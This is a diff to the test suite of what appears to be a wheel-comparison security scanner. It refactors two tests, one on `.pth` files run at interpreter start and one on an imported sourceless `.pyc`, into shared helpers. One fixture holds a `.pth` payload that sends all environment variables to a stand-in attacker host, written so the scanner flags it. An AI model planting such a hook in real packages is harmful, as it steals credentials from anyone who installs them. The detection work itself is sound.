@@ -53,6 +53,29 @@ def _diff(
     return code, json.loads(out)
 
 
+def _wheel_files(init: str) -> dict[str, str | bytes]:
+    """A minimal pure wheel of `demo` 1.0 whose `__init__.py` is `init`."""
+    dist = "demo-1.0.dist-info"
+    return {
+        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        "demo/__init__.py": init,
+    }
+
+
+def _diff_wheels(
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    old: dict[str, str | bytes],
+    new: dict[str, str | bytes],
+) -> tuple[int, dict[str, Any]]:
+    old_path, new_path = tmp_path / "demo-1.0-py3-none-any.whl", tmp_path / "new.whl"
+    old_path.write_bytes(A.wheel(old))
+    new_path.write_bytes(A.wheel(new))
+    code = main(["diff", "--old", str(old_path), "--new", str(new_path), "--format", "json"])
+    return code, json.loads(capsys.readouterr().out)
+
+
 def _rules(report: dict[str, Any]) -> set[str]:
     return {f["rule"] for f in report["findings"]}
 
@@ -217,21 +240,13 @@ def test_a_wheel_data_purelib_pth_runs_at_interpreter_start(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     """pip installs `.data/purelib/x.pth` into site-packages, where `site` runs it."""
-    dist = "demo-1.0.dist-info"
-    base = {
-        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
-        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
-        "demo/__init__.py": "",
-    }
-    old_path, new_path = tmp_path / "demo-1.0-py3-none-any.whl", tmp_path / "new.whl"
-    old_path.write_bytes(A.wheel(base))
     pth = (
         "import os, urllib.request; urllib.request.urlopen("
         "'https://collect.attacker.invalid/', data=str(dict(os.environ)).encode())\n"
     )
-    new_path.write_bytes(A.wheel({**base, "demo-1.0.data/purelib/zz_demo.pth": pth}))
-    code = main(["diff", "--old", str(old_path), "--new", str(new_path), "--format", "json"])
-    report = json.loads(capsys.readouterr().out)
+    base = _wheel_files("")
+    new = {**base, "demo-1.0.data/purelib/zz_demo.pth": pth}
+    code, report = _diff_wheels(tmp_path, capsys, base, new)
     assert code == 1 and report["severity"] == "critical", report["findings"]
     assert any(f["path"] == "zz_demo.pth" for f in report["findings"])
 
@@ -312,19 +327,10 @@ def test_a_sourceless_pyc_the_package_imports_is_reported(
     """`from ._speedups import run` imports `_speedups.pyc` when its magic number matches."""
     import importlib.util
 
-    dist = "demo-1.0.dist-info"
-    base = {
-        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
-        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
-        "demo/__init__.py": "X = 1\n",
-    }
     pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + b"\xe3" + b"\0" * 64
-    old_path, new_path = tmp_path / "demo-1.0-py3-none-any.whl", tmp_path / "new.whl"
-    old_path.write_bytes(A.wheel(base))
+    base = _wheel_files("X = 1\n")
     new = {**base, "demo/__init__.py": "from ._speedups import run\n", "demo/_speedups.pyc": pyc}
-    new_path.write_bytes(A.wheel(new))
-    code = main(["diff", "--old", str(old_path), "--new", str(new_path), "--format", "json"])
-    report = json.loads(capsys.readouterr().out)
+    code, report = _diff_wheels(tmp_path, capsys, base, new)
     assert code == 1 and report["severity"] in ("high", "critical"), report["findings"]
     assert any(
         f["rule"] == "code.opaque" and f["path"] == "demo/_speedups.pyc" for f in report["findings"]
